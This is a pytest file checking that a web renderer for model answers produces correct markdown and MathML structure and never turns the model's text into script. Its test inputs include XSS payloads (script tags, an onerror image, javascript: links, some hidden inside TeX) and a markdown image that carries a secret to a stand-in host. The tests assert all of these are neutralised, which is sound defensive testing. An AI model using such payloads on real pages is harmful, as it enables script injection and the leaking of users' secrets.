"""Markdown and TeX of answers rendered for the web page: the structure a reader expects, and nothing from the
model's text ever becomes script."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from qwq.server.markdown import render_markdown


class _Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def names(self) -> list[str]:
        return [tag for tag, _ in self.tags]


def test_markdown_structure():
    html = render_markdown("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y\n\n~~gone~~")
    names = _Elements(html).names()
    for tag in ("h1", "strong", "code", "table", "td", "ul", "li", "s"):
        assert tag in names, (tag, html)


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("area \\( \\pi r^2 \\) here", "inline"),
        ("so\n\\[\n\\boxed{42}\n\\]\n", "block"),
        ("$x^2$", "inline"),
        ("$$\n\\frac{1}{2}\n$$", "block"),
        ("1. First:\n   \\[\n   6 \\times 7 = 42\n   \\]\n", "block"),  # display math inside a list item, as QwQ writes
    ],
)
def test_math_becomes_mathml(text, display):
    elements = _Elements(render_markdown(text))
    maths = [attrs for tag, attrs in elements.tags if tag == "math"]
    assert maths and maths[0]["display"] == display
    assert "\\" not in render_markdown(text).replace("\\\\", "")  # no TeX source left over


def test_boxed_answer_is_drawn_as_a_box():
    elements = _Elements(render_markdown("\\(\\boxed{3}\\)"))
    assert ("menclose", {"notation": "box"}) in elements.tags


@pytest.mark.parametrize(
    "text",
    [
        "it costs $5 and $6 more",  # currency is not math
        "`re.compile(r'\\[x\\]')`",  # brackets in code stay code
        "```\n$x$ \\(y\\)\n```",
    ],
)
def test_text_that_is_not_math(text):
    assert "math" not in _Elements(render_markdown(text)).names()


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "\\(\\text{<script>alert(1)</script>}\\)",
        "$\\href{javascript:alert(1)}{x}$",
        '<a href="javascript:alert(1)">x</a>',
    ],
)
def test_model_text_never_becomes_script(text):
    html = render_markdown(text)
    elements = _Elements(html)
    assert "script" not in elements.names() and "img" not in elements.names()
    for _, attrs in elements.tags:
        assert not any(name.startswith("on") for name in attrs), html
        assert all("javascript" not in (value or "") for value in attrs.values()), html


@pytest.mark.parametrize("text", ["\\(\\frac{a\\)", "$\\style{x}$", "\\[\\left( x\\]", "$}{$"])
def test_malformed_tex_never_raises(text):
    assert render_markdown(text)


def test_remote_images_are_links_and_data_images_stay():
    """A markdown image from elsewhere would make the page fetch a URL the model wrote (it can carry a secret
    in its query): it becomes a link; a data: image is drawn."""
    html = render_markdown("![leak](https://elsewhere.example/?q=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert html.count("<img") == 1
    assert '<a href="https://elsewhere.example/?q=SECRET"' in html and ">leak</a>" in html
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in html


def test_unclosed_brackets_render_in_linear_time():
    """Many unclosed `\\(` used to cost a scan to the end each (34 s at 400 KB): now the time grows with the
    text, not its square — 8x the text must take far less than 64x the time."""
    import time

    def seconds(size: int) -> float:
        started = time.perf_counter()
        render_markdown("\\( a " * (size // 5))
        return time.perf_counter() - started

    small, large = min(seconds(25_000) for _ in range(2)), seconds(200_000)
    assert large < 20 * small + 0.5, (small, large)
    assert "<math" in render_markdown("\\( x \\) and \\( y")
